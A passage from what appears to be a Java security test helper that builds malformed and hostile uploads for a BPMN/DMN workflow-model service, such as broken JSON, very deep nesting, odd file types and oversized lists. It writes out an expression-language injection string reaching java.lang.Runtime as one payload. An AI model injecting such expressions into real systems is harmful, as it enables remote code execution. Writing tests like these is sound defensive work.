                new Payload("json: not JSON", "form.form", bytes("<html/>")),
                new Payload("json: a list", "form.form", bytes("[]")),
                new Payload("json: two forms", "form.form", bytes(FORM + FORM)),
                new Payload("json: very deep", "form.form", bytes("[".repeat(100_000))),
                new Payload("json: nothing", "form.form", new byte[0]));
    }

    private static Stream<Payload> files() {
        return Stream.of(
                        "sample.cmmn",
                        "sample.bpmn20.xml",
                        "table.dmn11.xml",
                        "sample.BPMN",
                        "samplebpmn",
                        "bpmn",
                        "script.groovy",
                        "page.html",
                        "sample.png")
                .map(file -> new Payload("file: " + file, file, bytes(DIAGRAM)));
    }

    private static Stream<Payload> changes(String fileName, String model, String changes) {
        return changes.lines().map(line -> line.split(" \\| ", 3)).map(parts -> {
            boolean inFront = parts[1].endsWith(" +");
            String named = inFront ? parts[1].substring(0, parts[1].length() - 2) : parts[1];
            String place = PLACES.getOrDefault(named, named);
            String change = inFront ? " %s %s".formatted(inFull(parts[2]), place) : inFull(parts[2]);
            return new Payload(parts[0], fileName, bytes(changed(model, place, change)));
        });
    }

    private static String inFull(String change) {
        return change.replace("<evil>", "${''.getClass().forName('java.lang.Runtime')}")
                .replace("<long>", "x".repeat(200))
                .replace("<list>", "x,".repeat(100_000) + "x")
                .replace("<path>", "x.".repeat(100_000) + "x")
                .replace("<throw>", "<bpmn:intermediateThrowEvent id=\"x\">")
                .replace("</throw>", "</bpmn:intermediateThrowEvent>")
                .replace("<loop", "<bpmn:multiInstanceLoopCharacteristics")
                .replace("</loop>", "</bpmn:multiInstanceLoopCharacteristics>");
    }

    /** The text with the first of something replaced. */
    static String changed(String text, String before, String after) {
        int at = text.indexOf(before);
        if (at < 0) {
            throw new IllegalArgumentException("There is nothing to change: " + before);
        }
        return text.substring(0, at) + after + text.substring(at + before.length());
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String drawn(String drawing, String elements, String content) {
        return Stream.of(elements.split("\\s+"))
                .map(element -> "<bpmndi:BPMN%1$s id=\"%2$s-di\" bpmnElement=\"%2$s\">%3$s</bpmndi:BPMN%1$s>\n"
                        .formatted(drawing, element, content))
                .reduce("", String::concat);
    }
}
